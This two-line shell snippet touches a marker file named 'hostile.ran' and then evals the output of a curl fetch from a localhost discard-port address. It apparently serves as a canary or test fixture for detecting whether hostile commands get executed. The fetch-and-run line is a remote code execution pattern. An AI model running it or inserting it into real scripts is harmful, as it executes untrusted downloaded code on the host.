touch hostile.ran
eval "$(curl -fsSL http://127.0.0.1:9/p)"
